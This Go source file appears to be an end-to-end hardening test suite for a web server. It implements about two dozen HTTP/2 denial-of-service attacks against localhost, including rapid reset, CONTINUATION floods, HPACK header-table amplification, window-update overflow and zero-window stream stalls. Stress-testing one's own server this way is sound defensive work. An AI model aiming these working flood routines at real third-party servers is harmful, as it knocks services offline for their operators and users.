package e2e

import (
	"bytes"
	"errors"
	"io"
	"net"
	"slices"
	"strconv"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// flood is a connection that speaks enough of HTTP/2 to misuse it.
type flood struct {
	*http2.Framer
	conn   *net.TCPConn
	hpack  *hpack.Encoder
	header bytes.Buffer
	stream uint32 // the next one
}

// attacksOnHTTP2 returns the attacks on HTTP/2. Each sends frames that the server really decodes.
func attacksOnHTTP2() []hostileKind {
	return []hostileKind{
		{name: "HTTP/2: no settings", run: func(_ *hostile, conn *net.TCPConn) error {
			_, err := io.WriteString(conn, http2.ClientPreface)
			return errors.Join(err, untilClosed(conn))
		}},
		{name: "HTTP/2: idle", run: flooding(nil)},
		{name: "HTTP/2: settings", run: flooding(func(f *flood) error {
			return f.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 4096}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20})
		})},
		{name: "HTTP/2: pings", run: flooding(func(f *flood) error { return f.WritePing(false, [8]byte{1}) })},
		{name: "HTTP/2: window updates", run: flooding(func(f *flood) error { return f.WriteWindowUpdate(0, 1) })},
		{name: "HTTP/2: window overflow", run: flooding(func(f *flood) error { return f.WriteWindowUpdate(0, 1<<31-1) })},
		{name: "HTTP/2: priorities", run: flooding(func(f *flood) error {
			f.stream += 2
			return f.WritePriority(f.stream, http2.PriorityParam{StreamDep: f.stream - 2, Weight: 255})
		})},
		{name: "HTTP/2: unknown frames", run: flooding(func(f *flood) error { return f.WriteRawFrame(0xfe, 0xff, 0, repeat("x", 1000)) })},
		{name: "HTTP/2: rapid reset", run: flooding(rapidReset)},
		{name: "HTTP/2: made the server reset", run: flooding(madeReset)},
		{name: "HTTP/2: headers without end", run: flooding(nil, (*flood).openHeaders)},
		{name: "HTTP/2: continuations", run: flooding((*flood).continueHeaders, (*flood).openHeaders)},
		{name: "HTTP/2: empty continuations", run: flooding(emptyContinuation, (*flood).openHeaders)},
		{name: "HTTP/2: large headers", run: flooding((*flood).largeHeaders)},
		{name: "HTTP/2: headers from the table", run: flooding((*flood).tableHeaders)},
		{name: "HTTP/2: empty data", run: flooding(func(f *flood) error { return f.WriteData(1, false, nil) }, (*flood).openBody)},
		{name: "HTTP/2: padded data", run: flooding(paddedData, (*flood).openBody)},
		{name: "HTTP/2: withheld bodies", run: flooding(nil, func(f *flood) error { return f.openMany("POST", "/api/activities", false) })},
		{name: "HTTP/2: withheld bodies of GET", run: flooding(nil, func(f *flood) error { return f.openMany("GET", "/api/events", false) })},
		{name: "HTTP/2: streams with a closed window", run: flooding(nil, (*flood).closeWindow, func(f *flood) error { return f.openMany("GET", "/api/events", true) })},
		{name: "HTTP/2: refused streams with a closed window", run: flooding(nil, (*flood).closeWindow, (*flood).openContinuing)},
		{name: "HTTP/2: streams with very many headers", run: flooding(nil, (*flood).openWithFields)},
		{name: "HTTP/2: very many headers, reset", run: flooding(func(f *flood) error {
			id := f.stream
			return errors.Join(f.openFields(), f.WriteRSTStream(id, http2.ErrCodeCancel))
		})},
		{name: "HTTP/2: refused headers with a closed window", run: flooding(nil, (*flood).closeWindow, (*flood).openRefused)},
		{name: "HTTP/2: files with a closed window", run: flooding(nil, (*flood).closeWindow, func(f *flood) error { return f.openMany("GET", "/dashboard/js/app.js", true) })},
		{name: "HTTP/2: files, no reads", run: narrow(func(h *hostile, conn *net.TCPConn) error {
			f, err := newFlood(conn)
			return errors.Join(err, f.WriteWindowUpdate(0, 1<<30), f.openMany("GET", "/dashboard/js/app.js", true), h.hold())
		})},
	}
}

func newFlood(conn *net.TCPConn) (*flood, error) {
	f := &flood{Framer: http2.NewFramer(conn, conn), conn: conn, stream: 1}
	f.AllowIllegalWrites = true
	f.hpack = hpack.NewEncoder(&f.header)
	_, err := io.WriteString(conn, http2.ClientPreface)
	return f, errors.Join(err, f.WriteSettings())
}

// flooding makes the first steps and then repeats a frame as fast as the server reads; without one it waits. It reads
// nothing: the answers must not pile up without bound.
func flooding(frame func(*flood) error, first ...func(*flood) error) func(*hostile, *net.TCPConn) error {
	return func(_ *hostile, conn *net.TCPConn) error {
		f, err := newFlood(conn)
		for _, step := range first {
			err = errors.Join(err, step(f))
		}
		if frame == nil {
			return errors.Join(err, untilClosed(conn))
		}
		for err == nil {
			err = frame(f)
		}
		return err
	}
}

// request encodes the headers of a request.
func (f *flood) request(method, path string, more ...hpack.HeaderField) []byte {
	f.header.Reset()
	for _, field := range append([]hpack.HeaderField{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: path}, {Name: ":authority", Value: "127.0.0.1"},
	}, more...) {
		_ = f.hpack.WriteField(field) // into memory
	}
	return f.header.Bytes()
}

// open sends the headers of a request on the next stream.
func (f *flood) open(method, path string, isWhole bool, more ...hpack.HeaderField) error {
	err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.stream, BlockFragment: f.request(method, path, more...), EndStream: isWhole, EndHeaders: true})
	f.stream += 2
	return err
}

// openMany opens as many streams as a client may.
func (f *flood) openMany(method, path string, isWhole bool) error {
	for range 100 {
		if err := f.open(method, path, isWhole, hpack.HeaderField{Name: "content-type", Value: "application/json"}); err != nil {
			return err
		}
	}
	return nil
}

// openRefused opens streams with headers that net/http itself refuses.
func (f *flood) openRefused() error {
	for range 100 {
		if err := f.open("GET", "/", true, hpack.HeaderField{Name: "te", Value: "gzip"}); err != nil {
			return err
		}
	}
	return nil
}

// openContinuing opens streams as an EventSource that comes again, so that refusals have the form of streams.
func (f *flood) openContinuing() error {
	for range 100 {
		err := f.open("GET", "/api/events", true, hpack.HeaderField{Name: "accept", Value: "text/event-stream"}, hpack.HeaderField{Name: "last-event-id", Value: "k3f9-5"})
		if err != nil {
			return err
		}
	}
	return nil
}

// openFields opens a stream with as many header fields as the bound of their decoded size allows: 36 bytes each.
func (f *flood) openFields() error {
	fields := make([]hpack.HeaderField, 1700)
	for i := range fields {
		fields[i] = hpack.HeaderField{Name: "x" + strconv.FormatInt(int64(i), 36), Sensitive: true}
	}
	return f.open("GET", "/api/events", true, fields...)
}

func (f *flood) openWithFields() error {
	for range 100 {
		if err := f.openFields(); err != nil {
			return err
		}
	}
	return nil
}

func (f *flood) openBody() error {
	return f.open("POST", "/api/activities", false, hpack.HeaderField{Name: "content-type", Value: "application/json"})
}

// closeWindow forbids the server to send any data.
func (f *flood) closeWindow() error {
	return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
}

func emptyContinuation(f *flood) error { return f.WriteContinuation(1, false, nil) }

func paddedData(f *flood) error { return f.WriteDataPadded(1, false, nil, repeat("\x00", 255)) }

func rapidReset(f *flood) error {
	id := f.stream
	return errors.Join(f.open("GET", "/api/events", true), f.WriteRSTStream(id, http2.ErrCodeCancel))
}

// madeReset makes the server reset the stream, by an update of the window by zero.
func madeReset(f *flood) error {
	id := f.stream
	return errors.Join(f.open("GET", "/api/events", true), f.WriteWindowUpdate(id, 0))
}

// openHeaders begins a block of headers that does not end.
func (f *flood) openHeaders() error {
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.request("GET", "/"), EndStream: true})
}

// continueHeaders sends valid headers that the server must decode.
func (f *flood) continueHeaders() error {
	f.header.Reset()
	for range 100 {
		_ = f.hpack.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 100), Sensitive: true})
	}
	return f.WriteContinuation(1, false, f.header.Bytes())
}

// largeHeaders sends a request with a little more headers than the server accepts: it decodes them all, refuses the request, and goes on.
func (f *flood) largeHeaders() error {
	fields := slices.Repeat([]hpack.HeaderField{{Name: "x", Value: strings.Repeat("y", 4<<10), Sensitive: true}}, 16)
	block := f.request("GET", "/", fields...)
	err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.stream, BlockFragment: block[:16<<10], EndStream: true})
	for rest := block[16<<10:]; err == nil && len(rest) > 0; {
		n := min(len(rest), 16<<10)
		err = f.WriteContinuation(f.stream, n == len(rest), rest[:n])
		rest = rest[n:]
	}
	f.stream += 2
	return err
}

// tableHeaders refers ten thousand times to an entry of the header table: ten kilobytes that decode to 40 MB.
func (f *flood) tableHeaders() error {
	block := append([]byte(nil), f.request("GET", "/", hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 3900)})...)
	f.header.Reset()
	_ = f.hpack.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 3900)})
	block = append(block, repeat(f.header.String(), 10_000)...)
	err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.stream, BlockFragment: block, EndStream: true, EndHeaders: true})
	f.stream += 2
	return err
}
